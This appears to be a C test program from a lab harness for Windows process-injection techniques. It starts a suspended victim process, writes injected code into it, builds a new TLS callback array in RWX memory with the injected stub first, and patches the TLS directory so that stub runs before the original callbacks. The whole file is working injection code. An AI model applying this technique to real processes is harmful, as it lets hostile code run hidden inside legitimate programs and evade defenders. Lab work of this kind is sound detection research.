/* tls-array-swap.c - attack (a): build a new TLS callback array in freshly
 * allocated RWX memory of the suspended victim -- injected code first, then
 * the victim's original callbacks -- and point the TLS directory's
 * AddressOfCallBacks at it. */
#include "attack.h"
#include "inject.h"

int main(void)
{
    struct victim v;
    victim_start(&v, "victim-tls.exe");
    IMAGE_NT_HEADERS64 nt;
    ULONG_PTR nt_at;
    victim_headers(&v, &nt, &nt_at);
    IMAGE_DATA_DIRECTORY dd = nt.OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_TLS];
    if (!dd.VirtualAddress)
        lab_die("victim-has-no-tls-directory");
    ULONG_PTR dir_va = v.image_base + dd.VirtualAddress;
    IMAGE_TLS_DIRECTORY64 dir;
    rd(&v, dir_va, &dir, sizeof dir, "read-tls-directory");

    ULONG_PTR array[18] = {0};
    ULONG_PTR stub = inj_place(v.pi.hProcess, 0, INJ_MODE_TLS, "tls-array-swap", NULL);
    if (!stub)
        lab_die("inj_place");
    array[0] = stub;
    int n = 1;
    for (; n < 17; n++) { /* copy the originals, at most 16 */
        ULONG_PTR cb = 0;
        rd(&v, dir.AddressOfCallBacks + (ULONG_PTR)(n - 1) * 8, &cb, 8, "read-callback");
        if (!cb)
            break;
        array[n] = cb;
    }
    LPVOID new_array = VirtualAllocEx(v.pi.hProcess, NULL, sizeof array, MEM_COMMIT | MEM_RESERVE,
                                      PAGE_EXECUTE_READWRITE);
    if (!new_array)
        lab_die("VirtualAllocEx-array");
    wr(&v, (ULONG_PTR)new_array, array, sizeof array, "write-array");
    ULONG_PTR new_va = (ULONG_PTR)new_array;
    wr(&v, dir_va + offsetof(IMAGE_TLS_DIRECTORY64, AddressOfCallBacks), &new_va, 8, "patch-AddressOfCallBacks");

    char detail[256];
    snprintf(detail, sizeof detail, "tls_directory=0x%llx old_array=0x%llx new_array=0x%llx injected=0x%llx originals=%d",
             (unsigned long long)dir_va, (unsigned long long)dir.AddressOfCallBacks,
             (unsigned long long)new_va, (unsigned long long)stub, n - 1);
    victim_report(&v, detail);
    return victim_finish(&v);
}
